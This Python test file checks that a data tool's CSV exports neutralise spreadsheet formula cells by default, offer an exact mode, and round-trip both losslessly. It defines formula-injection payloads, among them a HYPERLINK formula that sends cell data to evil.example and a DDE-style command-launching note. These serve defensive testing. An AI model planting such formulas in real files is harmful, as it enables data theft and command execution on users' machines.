"""Spreadsheet-bound CSV neutralises formula cells (leading ``'``) by default in
``export --format csv``, the Samples page download and ``annotations export``; ``--csv-mode exact``
writes cells verbatim; the importer reads both back losslessly (``--csv-mode`` of the import says which
one a file is; safe is the default on both sides)."""

from __future__ import annotations

import csv
import io
import json
import shutil

import pytest
import sqlalchemy as sa

from automonitor import annotation as ann
from automonitor import views
from automonitor.annotation.accounts import SYSTEM
from automonitor.data.pairfiles.export import export_pairs
from automonitor.data.records import csv_cell_in, csv_cell_out
from store import get_engine, init_db, session_scope
from store.models import Sample
from store.queries.samples import insert_samples

from helpers import candidate_row, fast_user, import_pairs

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "'=already quoted",
    "''=two quotes",
    "'plain apostrophe",
    "plain = text",
]
DANGER = ("=", "+", "-", "@", "\t", "\r")


def _store_with_hostile_pairs(eng):
    """The hostile pairs in ``eng``'s store (the ``engine`` fixture: a copy of the run's migrated empty store)."""
    rows = []
    for i, text in enumerate(HOSTILE):
        for lab, resp in (("misbehavior", text), ("benign", f"benign {i}")):
            r = candidate_row(
                id=f"h{i}{lab[0]}",
                pair_id=f"hp{i}",
                category="safety_permission",
                task="qa",
                label=lab,
                request=text,
                response=resp,
                status="gold",
                source="user",
            )
            r["split"] = "test"
            rows.append(r)
    with session_scope(eng) as s:
        insert_samples(s, rows)
    return eng


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline=""), strict=True) for c in row]


def _texts(eng):
    with eng.connect() as c:
        return sorted(c.execute(sa.select(Sample.pair_id, Sample.label, Sample.request, Sample.response)).all())


def test_cell_rule_is_reversible():
    for t in [*HOSTILE, "", "'", "''", "'a", "=", "x"]:
        assert csv_cell_in(csv_cell_out(t)) == t
        assert not str(csv_cell_out(t)).startswith(DANGER)
        assert csv_cell_out(t, "exact") == t
    assert csv_cell_out(-1.5) == -1.5  # numbers are not text cells


@pytest.mark.parametrize("mode", ["safe", "exact"])
def test_pair_export_csv_neutralises_by_default_and_both_modes_round_trip(
    tmp_path, engine, mode, empty_sqlite_template
):
    eng = _store_with_hostile_pairs(engine)
    out = tmp_path / "pairs.csv"
    export_pairs(eng, out, csv_mode=mode)
    cells = _cells(out.read_bytes().decode("utf-8"))
    if mode == "safe":
        assert not [c for c in cells if c.startswith(DANGER)]
        assert "'" + HOSTILE[0] in cells and "'" + "'=already quoted" in cells and "'plain apostrophe" in cells
    else:
        assert HOSTILE[0] in cells and "+1+1" in cells
    shutil.copyfile(empty_sqlite_template, tmp_path / "back.db")  # the run's migrated empty store, copied
    eng2 = init_db(get_engine(f"sqlite:///{tmp_path / 'back.db'}", fresh=True))
    import_pairs(eng2, out, csv_mode=mode)
    assert _texts(eng2) == _texts(eng)  # lossless
    eng2.dispose()


def test_cli_export_csv_exact_is_the_contracts_flag_and_csv_mode_still_works(tmp_path, cli, db_url, engine):
    """CONTRACT round 3: `export --format csv` neutralises formulas by default; `--csv-exact` writes cells
    unchanged, the same file as `--csv-mode exact`."""
    _store_with_hostile_pairs(engine)
    files = {}
    for name, flags in (("safe", []), ("flag", ["--csv-exact"]), ("mode", ["--csv-mode", "exact"])):
        files[name] = tmp_path / f"{name}.csv"
        res = cli(["export", str(files[name]), "--format", "csv", "--split", "all", *flags], db=db_url)
        assert res.returncode == 0, res.stderr
    safe = _cells(files["safe"].read_bytes().decode("utf-8"))
    assert "'" + HOSTILE[0] in safe and HOSTILE[0] not in safe
    assert files["flag"].read_bytes() == files["mode"].read_bytes()
    assert HOSTILE[0] in _cells(files["flag"].read_bytes().decode("utf-8"))
    bad = cli(["export", str(tmp_path / "x.csv"), "--csv-exact", "--csv-mode", "excel"], db=db_url)
    assert bad.returncode == 2 and "--csv-mode" in bad.stderr


def test_samples_page_download_is_neutralised(engine):
    eng = _store_with_hostile_pairs(engine)
    body = views.export_samples(eng, "csv").decode("utf-8")
    cells = _cells(body)
    assert not [c for c in cells if c.startswith(DANGER)]
    assert "'@SUM(A1:A9)" in cells


def test_annotations_export_neutralises_an_annotators_note_and_exact_keeps_it(engine, tmp_path, cli, db_url):
    a = fast_user(engine, "eve", "annotator")
    rows = [
        candidate_row(
            id=f"n{lab[0]}",
            pair_id="n",
            category="safety_permission",
            task="qa",
            label=lab,
            request="q",
            response=f"r {lab}",
        )
        for lab in ("misbehavior", "benign")
    ]
    with session_scope(engine) as s:
        insert_samples(s, rows)
    ann.assign(engine, SYSTEM, k=1, seed=1)
    note = "=cmd|' /C calc'!A0"
    for q in ann.my_queue(engine, a):
        ann.save_label(engine, a, q.sample_id, "benign", note=note)
    safe = tmp_path / "labels.csv"
    res = cli(["annotations", "export", str(safe)], db=db_url)
    assert res.returncode == 0, res.stderr
    cells = _cells(safe.read_bytes().decode("utf-8"))
    assert "'" + note in cells and note not in cells
    exact = tmp_path / "labels-exact.csv"
    res = cli(["annotations", "export", str(exact), "--csv-mode", "exact"], db=db_url)
    assert res.returncode == 0, res.stderr
    assert note in _cells(exact.read_bytes().decode("utf-8"))
    exact2 = tmp_path / "labels-exact2.csv"
    res = cli(["annotations", "export", str(exact2), "--csv-exact"], db=db_url)  # the contract's flag
    assert res.returncode == 0, res.stderr
    assert exact2.read_bytes() == exact.read_bytes()
    bad = cli(["annotations", "export", str(exact), "--csv-mode", "excel"], db=db_url)
    assert bad.returncode == 2 and "--csv-mode" in bad.stderr
    # the safe file reads back as the same note (re-import of identical submitted labels is a no-op)
    from automonitor.annotation.files import read_records

    back = {d["sample_id"]: d["note"] for _, d in read_records(safe)}
    assert set(back.values()) == {note}
    assert json.loads(cli(["annotations", "import", str(safe), "--json"], db=db_url).stdout)["written"] == 2
